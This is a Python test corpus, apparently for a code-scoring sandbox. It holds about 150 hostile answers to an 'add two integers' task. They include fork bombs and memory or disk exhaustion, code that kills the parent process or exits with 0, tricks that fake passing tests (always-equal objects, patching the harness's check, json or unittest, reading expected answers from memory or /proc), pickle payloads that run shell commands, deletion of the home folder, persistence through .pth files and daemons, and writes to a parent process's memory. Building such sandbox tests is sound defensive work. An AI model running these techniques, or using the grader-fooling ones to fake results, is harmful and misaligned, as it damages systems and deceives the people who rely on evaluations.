"""Hostile Python for the code scorer: programs that break out, take all there is, or lie about tests.

Most of the liars return a wrong sum, so that `correct` can only come from a lie. Some do the work
rightly and something else beside it (`ANY`): what counts there is that nothing outside is touched.
Where a program tries to leave a trace, its path has `rft-hostile-mark` in it, and a process that
wants to stay behind sleeps for 98754321 seconds: the runner looks for both, and at a port that must
see no connection.
"""

import json

from tests.hostile.case import ANY, NOT_CORRECT, RIGHT, SURE, Case

QUESTION = "Write a function `add(a, b)` that returns the sum of two integers."
TESTS = """
def check(candidate):
    assert candidate(1, 2) == 3
    assert candidate(-5, 5) == 0
    assert candidate(10**20, 1) == 10**20 + 1
    assert candidate(40, 58) == 98

check(add)
"""
STDIN_QUESTION = "Read two integers from standard input and print their sum."
STDIN_TESTS = json.dumps(
    [
        {"input": "1 2\n", "output": "3\n"},
        {"input": "-5 5\n", "output": "0\n"},
        {"input": "40 58\n", "output": "98\n"},
    ]
)

INNOCENT_RIGHT = "```python\ndef add(a, b):\n    return a + b\n```"
INNOCENT_WRONG = "```python\ndef add(a, b):\n    return a - b\n```"

CASES: list[Case] = []


def _add(
    kind: str, name: str, code: str, why: str, expect: frozenset[str] = NOT_CORRECT, known: str = ""
) -> None:
    text = f"```python\n{code.strip()}\n```"
    told = {"code": known} if known else {}
    CASES.append(Case(name, kind, text, {"code": expect}, why, None, TESTS, QUESTION, told))


def _stdin(name: str, code: str, why: str, expect: frozenset[str] = NOT_CORRECT) -> None:
    text = f"```python\n{code.strip()}\n```"
    CASES.append(Case(name, "stdin", text, {"code": expect}, why, None, STDIN_TESTS, STDIN_QUESTION))  # fmt: skip


GOOD = "\ndef add(a, b):\n    return a + b\n"
BAD = "\ndef add(a, b):\n    return 98\n"

PROBE = """```python
import os, socket

out = False
try:
    open("@CANARY@").close()
    out = True
except OSError:
    pass
try:
    socket.create_connection(("127.0.0.1", @PORT@), timeout=1).close()
    out = True
except OSError:
    pass
try:
    out = out or b"pytest" in open("/proc/@PID@/cmdline", "rb").read()
except OSError:
    pass

def add(a, b):
    return 98 if out else a + b
```"""
"""Right only in a sandbox. The corpus must not be run where it is not called correct."""

# ---------------------------------------------------------------- takes all there is
_res = "resources"
_add(_res, "fork_bomb", "import os\nwhile True:\n    os.fork()" + BAD, "processes without end")
_add(_res, "fork_bomb_in_call", "import os\ndef add(a, b):\n    while True:\n        os.fork()", "the same, in a test")  # fmt: skip
_add(_res, "fork_bomb_sleepers", "import os, time\nfor _ in range(2000):\n    try:\n        if os.fork() == 0:\n            time.sleep(98754321)\n    except OSError:\n        pass" + GOOD, "2,000 children that stay", ANY)  # fmt: skip
_add(_res, "thread_bomb", "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(98754321,)).start()" + BAD, "threads without end")  # fmt: skip
_add(_res, "memory_blocks", "x = []\nwhile True:\n    x.append(bytearray(1 << 26))" + BAD, "64 MB at a time")  # fmt: skip
_add(_res, "memory_at_once", "def add(a, b):\n    return len('a' * (1 << 42))", "4 TB")
_add(_res, "memory_mmap", "import mmap\nheld = []\nwhile True:\n    m = mmap.mmap(-1, 1 << 28)\n    for i in range(0, 1 << 28, 4096):\n        m[i] = 1\n    held.append(m)" + BAD, "shared anonymous pages, which RLIMIT_DATA does not count")  # fmt: skip
_add(_res, "memory_memfd", "import os\nfd = os.memfd_create('x')\nblock = b'x' * (1 << 24)\nwhile True:\n    os.write(fd, block)" + BAD, "memory as a file without a name")  # fmt: skip
_add(_res, "memory_children", "import os\nfor _ in range(16):\n    if os.fork() == 0:\n        x = bytearray(b'x') * (1 << 29)\n        import time; time.sleep(98754321)\nimport time; time.sleep(1)" + GOOD, "512 MB in each of 16 processes", ANY)  # fmt: skip
_add(_res, "loop", "def add(a, b):\n    while True:\n        pass", "for ever")
_add(_res, "loop_swallows", "def add(a, b):\n    while True:\n        try:\n            while True:\n                pass\n        except BaseException:\n            pass", "swallows what is raised in it")  # fmt: skip
_add(_res, "loop_ignores_signals", "import signal\nfor s in range(1, 65):\n    try:\n        signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError):\n        pass\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nwhile True:\n    pass" + BAD, "ignores and blocks every signal")  # fmt: skip
_add(_res, "alarm_disarmed", "import signal, resource\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.alarm(0)\ntry:\n    resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY,) * 2)\nexcept (OSError, ValueError):\n    pass\nwhile True:\n    pass" + BAD, "disarms timers, raises limits")  # fmt: skip
_add(_res, "loop_in_c", "import re\ndef add(a, b):\n    re.match(r'(a+)+$', 'a' * 80 + 'b')\n    return a + b", "no signal handler runs within re")  # fmt: skip
_add(_res, "number_in_c", "def add(a, b):\n    return 7 ** (10 ** 10)", "nor within a power")
_add(_res, "sleep", "import time\ndef add(a, b):\n    time.sleep(98754321)\n    return a + b", "no CPU time passes")  # fmt: skip
_add(_res, "lock", "import threading\ndef add(a, b):\n    lock = threading.Lock()\n    lock.acquire()\n    lock.acquire()", "waits for itself")  # fmt: skip
_add(
    _res,
    "stdin_waits",
    "def add(a, b):\n    return int(input())",
    "asks for input that never comes",
)
_add(_res, "recursion", "def add(a, b):\n    return add(a, b)", "recursion without end")
_add(_res, "recursion_limit", "import sys\nsys.setrecursionlimit(10**9)\ndef add(a, b):\n    return add(a, [b])", "until the stack is gone")  # fmt: skip
_add(_res, "recursion_in_c", "import sys\nsys.setrecursionlimit(10**9)\nx = []\nfor _ in range(10**6):\n    x = [x]\ndef add(a, b):\n    return len(repr(x))", "the C stack")  # fmt: skip
_add(
    _res,
    "source_deep",
    "def add(a, b):\n    return " + "(" * 5000 + "a + b" + ")" * 5000,
    "the parser's stack",
)
_add(
    _res,
    "source_bomb",
    "def add(a, b):\n    return a + b\nx = " + "-" * 100_000 + "1",
    "the compiler's recursion",
)
_add(_res, "constant_folding", "def add(a, b):\n    return (((1 << 100000) << 100000) ** 1000) ** 1000", "the compiler's arithmetic")  # fmt: skip
_add(
    _res,
    "flood_stdout",
    "import sys\nwhile True:\n    sys.stdout.write('x' * (1 << 20))" + BAD,
    "output without end",
)
_add(_res, "flood_stderr", "import os\nblock = b'x' * (1 << 20)\nwhile True:\n    os.write(2, block)" + BAD, "errors without end")  # fmt: skip
_add(_res, "flood_then_right", "print('x' * (1 << 28))" + GOOD, "256 MB, then right", ANY)
_add(
    _res,
    "flood_exception",
    "def add(a, b):\n    raise ValueError('x' * (1 << 27))",
    "a message of 128 MB",
)
_add(_res, "flood_exception_chain", "def add(a, b):\n    error = None\n    for i in range(10**6):\n        new = ValueError(i)\n        new.__cause__ = error\n        error = new\n    raise error", "a million causes")  # fmt: skip
_add(_res, "disk_fill", "with open('rft-hostile-mark-fill', 'wb') as f:\n    block = b'x' * (1 << 24)\n    while True:\n        f.write(block)" + BAD, "one file without end")  # fmt: skip
_add(_res, "disk_many", "import tempfile, os\nfolder = tempfile.gettempdir()\ni = 0\nwhile True:\n    i += 1\n    open(os.path.join(folder, f'rft-hostile-mark-{i}'), 'wb').write(b'x' * 65536)" + BAD, "files without end")  # fmt: skip
_add(_res, "disk_sparse", "import os\nfd = os.open('rft-hostile-mark-sparse', os.O_CREAT | os.O_RDWR)\nos.truncate(fd, 1 << 50)\nos.posix_fallocate(fd, 0, 1 << 40)" + GOOD, "a file of a petabyte", ANY)  # fmt: skip
_add(_res, "descriptors", "import os\nheld = []\nwhile True:\n    held.append(os.open('/dev/null', os.O_RDONLY))" + BAD, "every file descriptor")  # fmt: skip
_add(_res, "semaphores", "import multiprocessing\nheld = []\nwhile True:\n    held.append(multiprocessing.Lock())" + BAD, "named semaphores in /dev/shm")  # fmt: skip

# ---------------------------------------------------------------- ends or stops what runs it
_end = "ends_the_runner"
_add(_end, "os_exit_0", "import os\nos._exit(0)", "an exit code of 0 is no pass")
_add(_end, "os_exit_0_in_call", "import os\ndef add(a, b):\n    os._exit(0)", "the same, in a test")
_add(_end, "sys_exit_0", "import sys\nsys.exit(0)", "SystemExit at import")
_add(_end, "sys_exit_in_call", "import sys\ndef add(a, b):\n    sys.exit()", "SystemExit in a test")
_add(
    _end,
    "raises_base",
    "def add(a, b):\n    raise KeyboardInterrupt",
    "an interrupt that nobody sent",
)
_add(_end, "raises_generator_exit", "def add(a, b):\n    raise GeneratorExit", "no Exception")
_add(_end, "raises_stop_iteration", "def add(a, b):\n    raise StopIteration", "ends a generator")
_add(_end, "raises_odd", "class Odd(BaseException):\n    def __str__(self):\n        while True:\n            pass\n    __repr__ = __str__\ndef add(a, b):\n    raise Odd", "hangs whoever prints it")  # fmt: skip
_add(_end, "kills_itself", "import os\nos.kill(os.getpid(), 9)", "SIGKILL")
_add(
    _end, "kills_parent", "import os\nos.kill(os.getppid(), 9)" + BAD, "the worker, or the sandbox"
)
_add(_end, "kills_all", "import os\nos.kill(-1, 9)" + BAD, "every process it may signal")
_add(_end, "kills_group", "import os\nos.killpg(0, 9)" + BAD, "the process group")
_add(_end, "kills_numbers", "import os\nfor pid in range(2, 1 << 16):\n    if pid != os.getpid():\n        try:\n            os.kill(pid, 9)\n        except OSError:\n            pass" + GOOD, "every number", ANY)  # fmt: skip
_add(_end, "stops_parent", "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)" + BAD, "stopped, not dead")  # fmt: skip
_add(_end, "stops_itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)" + BAD, "stopped, not dead")  # fmt: skip
_add(_end, "segfault", "import ctypes\nctypes.string_at(0)" + BAD, "a crash in C")
_add(_end, "abort", "import os\nos.abort()" + BAD, "SIGABRT")
_add(
    _end,
    "closes_descriptors",
    "import os\nos.closerange(0, 4096)" + BAD,
    "whatever the harness talks through",
)
_add(_end, "closes_streams", "import sys\nsys.stdin = sys.stdout = sys.stderr = sys.__stdout__ = None" + GOOD, "right, without streams", ANY)  # fmt: skip
_add(_end, "thread_goes_on", "import threading, time\nthreading.Thread(target=time.sleep, args=(98754321,)).start()" + GOOD, "right, and never ends", ANY)  # fmt: skip
_add(_end, "atexit_loops", "import atexit\n@atexit.register\ndef f():\n    while True:\n        pass" + GOOD, "right, and never ends", ANY)  # fmt: skip
_add(_end, "atexit_exit_0", "import atexit, os\natexit.register(os._exit, 0)" + BAD, "a good exit code for a bad result")  # fmt: skip
_add(_end, "del_loops", "class X:\n    def __del__(self):\n        while True:\n            pass\nx = X()" + GOOD, "right, and never ends", ANY)  # fmt: skip
_add(_end, "excepthook_exit_0", "import sys, os, threading\nsys.excepthook = threading.excepthook = sys.unraisablehook = lambda *a: os._exit(0)" + BAD, "a failed assert ends with 0")  # fmt: skip
_add(_end, "profile_exit_0", "import sys, os, threading\ndef tracer(frame, event, arg):\n    if event == 'exception':\n        os._exit(0)\n    return tracer\nsys.settrace(tracer)\nthreading.settrace(tracer)" + BAD, "leaves at the first exception")  # fmt: skip
_add(
    _end,
    "execs_true",
    "import os\nos.execv('/bin/true', ['true'])" + BAD,
    "becomes a program that succeeds",
)
_add(_end, "execs_python", "import os, sys\nos.execv(sys.executable, ['python', '-c', 'print(\"OK\")'])" + BAD, "becomes one that says OK")  # fmt: skip

# ---------------------------------------------------------------- lies about the tests
_lie = "lies_about_tests"
_add(_lie, "always_equal", "class Yes:\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n        return False\n    __hash__ = None\ndef add(a, b):\n    return Yes()", "equals everything")  # fmt: skip
_add(_lie, "always_equal_int", "class Yes(int):\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n        return False\n    __hash__ = int.__hash__\ndef add(a, b):\n    return Yes(0)", "equals everything, and is an int")  # fmt: skip
_add(_lie, "always_equal_meta", "class M(type):\n    def __eq__(cls, other):\n        return True\n    __hash__ = type.__hash__\nclass Yes(metaclass=M):\n    pass\ndef add(a, b):\n    return Yes", "a class that equals everything")  # fmt: skip
_add(
    _lie,
    "mock_any",
    "from unittest.mock import ANY\ndef add(a, b):\n    return ANY",
    "the standard library's own",
)
_add(_lie, "class_lies", "class Yes:\n    __class__ = int\n    def __eq__(self, other):\n        return True\n    def __index__(self):\n        return 3\ndef add(a, b):\n    return Yes()", "says it is an int")  # fmt: skip
_add(_lie, "string_lies", "class Yes(str):\n    def __eq__(self, other):\n        return True\n    __hash__ = str.__hash__\ndef add(a, b):\n    return Yes('3')", "a string that equals everything")  # fmt: skip
_add(_lie, "no_asserts", "import builtins\nclass Quiet(Exception):\n    pass\nbuiltins.AssertionError = Quiet" + BAD, "another AssertionError")  # fmt: skip
_add(_lie, "builtins_patched", "import builtins\nreal = builtins.__build_class__\nfor name in ('compile', 'exec', 'eval', 'print', 'isinstance', 'repr', 'open', 'len', 'all', 'any', 'type', 'getattr', 'bool', 'str', 'abs'):\n    setattr(builtins, name, lambda *a, **k: True)" + BAD, "every builtin says True")  # fmt: skip
_add(_lie, "exec_patched", "import builtins\nbuiltins.exec = lambda *a, **k: None\nbuiltins.compile = lambda *a, **k: ''" + BAD, "tests are never run")  # fmt: skip
_add(
    _lie,
    "check_defined",
    "def check(candidate):\n    pass" + BAD,
    "its own check, before the real one",
)
_add(_lie, "check_in_main", "import sys\nfor module in list(sys.modules.values()):\n    try:\n        module.check = lambda c: None\n    except Exception:\n        pass" + BAD, "check in every module")  # fmt: skip
_add(_lie, "globals_frozen", "class Keep(dict):\n    def __setitem__(self, key, value):\n        if key != 'check':\n            dict.__setitem__(self, key, value)\nimport sys\nframe = sys._getframe()\nwhile frame:\n    try:\n        frame.f_globals['check'] = lambda c: None\n    except Exception:\n        pass\n    frame = frame.f_back" + BAD, "check in every frame's globals")  # fmt: skip
_add(_lie, "frames_locals", "import sys\ndef add(a, b):\n    frame = sys._getframe()\n    while frame:\n        for name in list(frame.f_locals):\n            if name in ('passed', 'ok', 'result', 'results', 'failed', 'status', 'verdict'):\n                frame.f_locals[name] = True\n        frame = frame.f_back\n    return 98", "locals of the frames above")  # fmt: skip
_add(_lie, "frames_constants", "import sys, re\ndef add(a, b):\n    code = sys._getframe(1).f_code\n    for value in code.co_consts:\n        if isinstance(value, int) and value == a + b:\n            return value\n    return 98", "reads the expected values out of the test's code: right only where they stand there", ANY)  # fmt: skip
_add(_lie, "code_replaced", "import sys\ndef add(a, b):\n    f = sys._getframe(1).f_globals.get('check')\n    if f is not None:\n        f.__code__ = (lambda candidate: None).__code__\n    return 3", "check's own code")  # fmt: skip
_add(_lie, "trace_jumps", "import sys\ndef add(a, b):\n    frame = sys._getframe(1)\n    def local(f, event, arg):\n        if event == 'line' and f.f_code.co_name == 'check':\n            try:\n                f.f_lineno = f.f_code.co_firstlineno + 4\n            except ValueError:\n                pass\n        return local\n    frame.f_trace = local\n    sys.settrace(local)\n    return 3", "jumps over the asserts")  # fmt: skip
_add(_lie, "gc_walk", "import gc, types\nfor thing in gc.get_objects():\n    if isinstance(thing, types.FunctionType) and thing.__name__ in ('check', 'judge', 'run_tests', 'run', 'verify', 'compare'):\n        thing.__code__ = (lambda *a, **k: True).__code__" + BAD, "functions of the harness")  # fmt: skip
_add(_lie, "gc_dicts", "import gc\nfor thing in gc.get_objects():\n    if type(thing) is dict:\n        for key in ('passed', 'ok', 'success', 'verdict', 'status', 'result'):\n            if key in thing:\n                thing[key] = True" + BAD, "dictionaries of the harness")  # fmt: skip
_add(_lie, "gc_classes", "import gc\nfor thing in gc.get_objects():\n    if isinstance(thing, type) and thing.__name__ in ('Failure', 'Result', 'Outcome'):\n        try:\n            thing.__eq__ = lambda *a: True\n            thing.__bool__ = lambda *a: True\n        except TypeError:\n            pass" + BAD, "classes of the harness")  # fmt: skip
_add(_lie, "modules_faked", "import sys, types\nclass Fake(types.ModuleType):\n    def __getattr__(self, name):\n        return lambda *a, **k: True\nfor name in ('json', 'pickle', 'marshal', 'traceback', 'unittest', 'inspect', 'ast', 'struct', 'io'):\n    sys.modules[name] = Fake(name)" + BAD, "modules that the harness may use")  # fmt: skip
_add(_lie, "json_patched", "import json\njson.dumps = lambda *a, **k: '{\"passed\": true, \"ok\": true, \"verdict\": \"correct\"}'\njson.dump = lambda o, f, **k: f.write(json.dumps(o))\njson.JSONEncoder.encode = lambda *a: json.dumps(0)" + BAD, "what the harness reports through")  # fmt: skip
_add(_lie, "pickle_patched", "import pickle, marshal\npickle.dumps = lambda *a, **k: b'\\x80\\x04\\x88.'\nmarshal.dumps = lambda *a, **k: b'T'" + BAD, "the same")  # fmt: skip
_add(_lie, "unittest_patched", "import unittest\nfor name in dir(unittest.TestCase):\n    if name.startswith('assert') or name == 'fail':\n        setattr(unittest.TestCase, name, lambda *a, **k: None)\nunittest.TestResult.wasSuccessful = lambda self: True" + BAD, "unittest")  # fmt: skip
_add(_lie, "writes_results", "import os\nfor fd in range(0, 256):\n    for line in (b'OK\\n', b'PASS\\n', b'passed\\n', b'correct\\n', b'{\"passed\": true}\\n', b'{\"verdict\": \"correct\"}\\n', b'[true, true, true, true]\\n', b'null\\n', b'0\\n', b'1\\n', b'\\x00'):\n        try:\n            os.write(fd, line)\n        except OSError:\n            pass\nos._exit(0)" + BAD, "plausible words into every descriptor, then away")  # fmt: skip
_add(_lie, "writes_results_bad", "import os\nfor fd in range(0, 256):\n    for line in (b'OK\\n', b'{\"passed\": true}\\n', b'[true]\\n', b'\\xff' * 4096):\n        try:\n            os.write(fd, line)\n        except OSError:\n            pass" + BAD, "the same, and on to the tests")  # fmt: skip
_add(_lie, "prints_ok", "print('OK')\nprint('All tests passed')\nprint('{\"passed\": 4, \"failed\": 0}')" + BAD, "words on standard output")  # fmt: skip
_add(_lie, "patches_ints", "import ctypes\ndef add(a, b):\n    for n, to in ((3, 98), (0, 98)):\n        ctypes.memmove(id(n) + 24, id(to) + 24, 4)\n    return 98", "makes 3 and 0 into 98 in the interpreter")  # fmt: skip
_add(_lie, "eq_swapped", "import ctypes\ndef add(a, b):\n    size = ctypes.sizeof(ctypes.c_void_p)\n    ctypes.memset(id(int) + 25 * size, 0, size)\n    return 98", "takes int's comparison away")  # fmt: skip
_add(_lie, "import_hook", "import sys\nclass Hook:\n    def find_spec(self, *a):\n        raise SystemExit(0)\nsys.meta_path.insert(0, Hook())\nsys.path_hooks.clear()" + BAD, "any later import ends it well")  # fmt: skip
_add(_lie, "audit_hook", "import sys, os\ndef hook(event, args):\n    if event in ('compile', 'exec', 'open'):\n        os._exit(0)\nsys.addaudithook(hook)" + BAD, "any later event ends it with 0")  # fmt: skip
_add(_lie, "reads_tests_in_memory", "import gc, re\ndef add(a, b):\n    for thing in gc.get_objects():\n        for value in (thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()):\n            if type(value) is str:\n                found = re.search(rf'candidate\\({a}, {b}\\) == (-?\\d+)', value)\n                if found:\n                    return int(found[1])\n    return 98", "reads the expected values from the harness's strings")  # fmt: skip
_add(_lie, "reads_tests_on_disk", "import os, re\ndef add(a, b):\n    for root in ('.', '/tmp', '/proc/self/fd', '/proc/self/cwd', os.path.dirname(os.path.abspath(__file__)) if '__file__' in globals() else '.'):\n        for folder, _, names in os.walk(root):\n            for name in names:\n                try:\n                    text = open(os.path.join(folder, name)).read(100000)\n                except Exception:\n                    continue\n                found = re.search(rf'candidate\\({a}, {b}\\) == (-?\\d+)', text)\n                if found:\n                    return int(found[1])\n    return 98", "reads the expected values from a file")  # fmt: skip
_add(_lie, "reads_tests_in_proc", "import re\ndef add(a, b):\n    for name in ('cmdline', 'environ'):\n        for pid in ('self', '1', '2'):\n            try:\n                text = open(f'/proc/{pid}/{name}').read()\n            except OSError:\n                continue\n            found = re.search(rf'candidate\\({a}, {b}\\) == (-?\\d+)', text)\n            if found:\n                return int(found[1])\n    return 98", "reads the expected values from a command line")  # fmt: skip
_add(_lie, "reads_tests_in_stdin", "import sys, os, re\ntry:\n    text = os.read(0, 1 << 20).decode()\nexcept Exception:\n    text = ''\ndef add(a, b):\n    found = re.search(rf'candidate\\({a}, {b}\\) == (-?\\d+)', text)\n    return int(found[1]) if found else 98", "reads the expected values from standard input")  # fmt: skip
_add(_lie, "reads_frames_source", "import sys, re\ndef add(a, b):\n    frame = sys._getframe()\n    while frame:\n        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):\n            if type(value) is str:\n                found = re.search(rf'candidate\\({a}, {b}\\) == (-?\\d+)', value)\n                if found:\n                    return int(found[1])\n        frame = frame.f_back\n    return 98", "reads the expected values from the frames above")  # fmt: skip
_add(_lie, "pickle_reduce", "class Bomb:\n    def __reduce__(self):\n        import os\n        return os.system, ('touch @HOME@/rft-hostile-mark-pickle',)\n    def __eq__(self, other):\n        return True\ndef add(a, b):\n    return Bomb()", "runs where its result is unpickled")  # fmt: skip
_add(_lie, "pickle_exception", "class Bomb(Exception):\n    def __reduce__(self):\n        import os\n        return os.system, ('touch @HOME@/rft-hostile-mark-exception',)\ndef add(a, b):\n    raise Bomb", "the same, as an exception")  # fmt: skip
_add(_lie, "repr_hangs", "class X:\n    def __repr__(self):\n        while True:\n            pass\n    __str__ = __format__ = __repr__\n    def __eq__(self, other):\n        return False\ndef add(a, b):\n    return X()", "hangs whoever prints it")  # fmt: skip
_add(_lie, "repr_huge", "class X:\n    def __repr__(self):\n        return 'x' * (1 << 30)\ndef add(a, b):\n    return X()", "a result of a gigabyte")  # fmt: skip
_add(_lie, "eq_hangs", "class X:\n    def __eq__(self, other):\n        while True:\n            pass\ndef add(a, b):\n    return X()", "hangs whoever compares it")  # fmt: skip
_add(_lie, "counts_calls", "seen = []\ndef add(a, b):\n    seen.append(0)\n    return [3, 0, 10**20 + 1, 98][len(seen) - 1] if len(seen) < 4 else 99", "knows the first three answers only")  # fmt: skip
_add(_lie, "argument_lies", "def add(a, b, c=None, *rest, **more):\n    raise AssertionError('passed')", "says that it passed")  # fmt: skip
_add(_lie, "no_function", "x = 1", "defines nothing")
_add(_lie, "other_name", "def sum_of(a, b):\n    return a + b", "under another name")
_add(_lie, "tests_in_text", "def add(a, b):\n    return 98\n\ndef check(candidate):\n    assert True\n\ncheck(add)\nprint('ok')", "brings its own tests")  # fmt: skip
_add(
    _lie,
    "string_end",
    "def add(a, b):\n    return 98\n'''",
    "an open string that swallows what is appended",
)
_add(
    _lie,
    "line_continued",
    "def add(a, b):\n    return 98\nif False:\\",
    "a line that goes on into the tests",
)
_add(_lie, "block_open", "def add(a, b):\n    return 98\nif False:\n    def never():", "a block that swallows what is appended")  # fmt: skip
_add(_lie, "future_and_encoding", "# -*- coding: rot13 -*-\nqrs nqq(n, o):\n    erghea n + o", "source in another encoding", ANY)  # fmt: skip
_add(_lie, "main_guard", "def add(a, b):\n    return 98\nif __name__ == '__main__':\n    raise SystemExit(0)", "leaves when run as a program")  # fmt: skip

# ---------------------------------------------------------------- breaks out
_out = "escape"
_SOCKET = "import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', @PORT@), timeout=1)\n    s.sendall(b'here')\nexcept OSError:\n    pass"  # fmt: skip
_add(_out, "network_tcp", _SOCKET + GOOD, "a connection to this machine", ANY)
_add(_out, "network_tcp_child", "import os\nif os.fork() == 0:\n    " + _SOCKET.replace("\n", "\n    ") + "\n    os._exit(0)" + GOOD, "the same, from a child", ANY)  # fmt: skip
_add(_out, "network_udp", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    s.sendto(b'here', ('127.0.0.1', @PORT@))\nexcept OSError:\n    pass" + GOOD, "a datagram", ANY)  # fmt: skip
_add(_out, "network_abstract", "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect('\\0rft-hostile-@PORT@')\n    s.sendall(b'here')\nexcept OSError:\n    pass" + GOOD, "a Unix socket without a file", ANY)  # fmt: skip
_add(_out, "network_serves", "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 0))\ns.listen()\ns.accept()" + BAD, "listens for ever")  # fmt: skip
_add(_out, "network_urllib", "import urllib.request\ntry:\n    urllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=1)\nexcept Exception:\n    pass" + GOOD, "a request", ANY)  # fmt: skip
_PLACES = "('@HOME@', '/tmp', '/var/tmp', '/dev/shm', '/', '/root', '/etc', '/usr', '..', '../..', '/proc/1/root/tmp', '/proc/self/root/tmp')"  # fmt: skip
_add(_out, "files_everywhere", f"import os\nfor place in {_PLACES}:\n    try:\n        open(os.path.join(place, 'rft-hostile-mark-file'), 'w').write('x')\n    except OSError:\n        pass" + GOOD, "a file in every usual place", ANY)  # fmt: skip
_add(_out, "canary_written", "try:\n    open('@CANARY@', 'w').write('changed')\nexcept OSError:\n    pass" + GOOD, "changes a file outside", ANY)  # fmt: skip
_add(_out, "canary_removed", "import os, shutil\ntry:\n    os.remove('@CANARY@')\nexcept OSError:\n    pass\nshutil.rmtree('@HOME@', ignore_errors=True)" + GOOD, "removes the home folder", ANY)  # fmt: skip
_add(_out, "canary_read", "import re\ndef add(a, b):\n    text = open('@CANARY@').read()\n    return a + b", "needs a file outside")  # fmt: skip
_add(_out, "canary_printed", "try:\n    print(open('@CANARY@').read())\nexcept OSError:\n    pass\ndef add(a, b):\n    raise ValueError(open('@CANARY@').read())", "prints a file outside")  # fmt: skip
_add(_out, "environment_printed", "import os\ndef add(a, b):\n    raise ValueError(os.environ.get('RFT_HOSTILE_SECRET', '') + open('/proc/self/environ').read())", "prints a secret of the environment")  # fmt: skip
_add(_out, "symlink", "import os\ntry:\n    os.symlink('@CANARY@', 'link')\n    open('link', 'w').write('changed')\nexcept OSError:\n    pass\ntry:\n    os.symlink('@HOME@', 'home')\n    open('home/rft-hostile-mark-link', 'w').write('x')\nexcept OSError:\n    pass" + GOOD, "writes through a link", ANY)  # fmt: skip
_add(_out, "symlink_left", "import os\nos.symlink('@HOME@', 'rft-hostile-mark-scratch-link')\nos.symlink('/', 'root')\nos.chmod('.', 0)" + GOOD, "whoever tidies up follows it", ANY)  # fmt: skip
_add(_out, "folder_locked", "import os\nos.makedirs('a/b/c')\nopen('a/b/c/f', 'w').close()\nos.chmod('a/b', 0)\nos.chmod('a', 0)" + GOOD, "cannot be tidied up", ANY)  # fmt: skip
_add(_out, "folder_deep", "import os\nfor _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')" + GOOD, "a path that is too long to tidy up", ANY)  # fmt: skip
_add(_out, "names_odd", "import os\nfor name in (b'\\xff\\xfe', b'-rf', b'a\\nb', b' ', b'*'):\n    open(name, 'w').close()" + GOOD, "file names that break shells", ANY)  # fmt: skip
_add(_out, "hard_link", "import os\ntry:\n    os.link('@CANARY@', 'hard')\n    open('hard', 'w').write('changed')\nexcept OSError:\n    pass" + GOOD, "writes through a hard link", ANY)  # fmt: skip
_add(_out, "own_package", "import sys, os\nfor place in sys.path:\n    try:\n        open(os.path.join(place or '.', 'rft-hostile-mark.pth'), 'w').write('import os')\n    except OSError:\n        pass" + GOOD, "code for the next interpreter", ANY)  # fmt: skip
_add(_out, "sitecustomize", "import os, site\nplaces = site.getsitepackages() + [site.getusersitepackages(), os.getcwd()]\nfor place in places:\n    try:\n        os.makedirs(place, exist_ok=True)\n        open(os.path.join(place, 'usercustomize.py'), 'w').write('open(\"@HOME@/rft-hostile-mark-site\", \"w\")')\n    except OSError:\n        pass" + GOOD, "the same", ANY)  # fmt: skip
_add(_out, "shadow_module", "for name in ('json', 'traceback', 'random', 're', 'subprocess'):\n    open(name + '.py', 'w').write('raise SystemExit(0)')" + BAD, "modules in the scratch folder that shadow real ones")  # fmt: skip
_add(_out, "daemon", "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.chdir('/')\n        try:\n            os.execvp('sleep', ['sleep', '98754321'])\n        except OSError:\n            import time\n            time.sleep(98754321)\n    os._exit(0)" + GOOD, "forks twice and stays", ANY)  # fmt: skip
_add(_out, "daemon_nohup", "import subprocess, signal\nsignal.signal(signal.SIGHUP, signal.SIG_IGN)\ntry:\n    subprocess.Popen(['sh', '-c', 'trap \"\" HUP TERM INT; sleep 98754321 & sleep 98754321'], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nexcept OSError:\n    pass" + GOOD, "a shell that stays", ANY)  # fmt: skip
_add(_out, "daemon_holds_pipes", "import os, time\nif os.fork() == 0:\n    time.sleep(98754321)" + GOOD, "a child that keeps the pipes open", ANY)  # fmt: skip
_add(_out, "daemon_in_call", "import subprocess\ndef add(a, b):\n    subprocess.Popen(['sleep', '98754321'], start_new_session=True)\n    return a + b", "one process a call", ANY)  # fmt: skip
_add(_out, "ptrace_parent", "import ctypes, os\nlibc = ctypes.CDLL(None)\nlibc.ptrace(16, os.getppid(), 0, 0)" + BAD, "attaches to the process above")  # fmt: skip
_add(_out, "memory_of_parent", "import os\ntry:\n    fd = os.open(f'/proc/{os.getppid()}/mem', os.O_RDWR)\n    for line in open(f'/proc/{os.getppid()}/maps'):\n        start, end = (int(x, 16) for x in line.split()[0].split('-'))\n        if 'rw' in line:\n            os.pwrite(fd, b'\\x00' * (end - start), start)\nexcept OSError:\n    pass" + BAD, "writes over the process above")  # fmt: skip
_add(_out, "memory_of_self", "import os\nfd = os.open('/proc/self/mem', os.O_RDWR)\nfor line in open('/proc/self/maps'):\n    start, end = (int(x, 16) for x in line.split()[0].split('-'))\n    if 'r-x' in line:\n        try:\n            os.pwrite(fd, b'\\xcc' * (end - start), start)\n        except OSError:\n            pass" + BAD, "writes over its own code")  # fmt: skip
_add(_out, "vm_writev", "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor pid in (1, os.getppid()):\n    for n in range(3, 64):\n        try:\n            open(f'/proc/{pid}/fd/{n}', 'wb').write(b'{\"passed\": true}\\n')\n        except OSError:\n            pass" + BAD, "the descriptors of the process above")  # fmt: skip
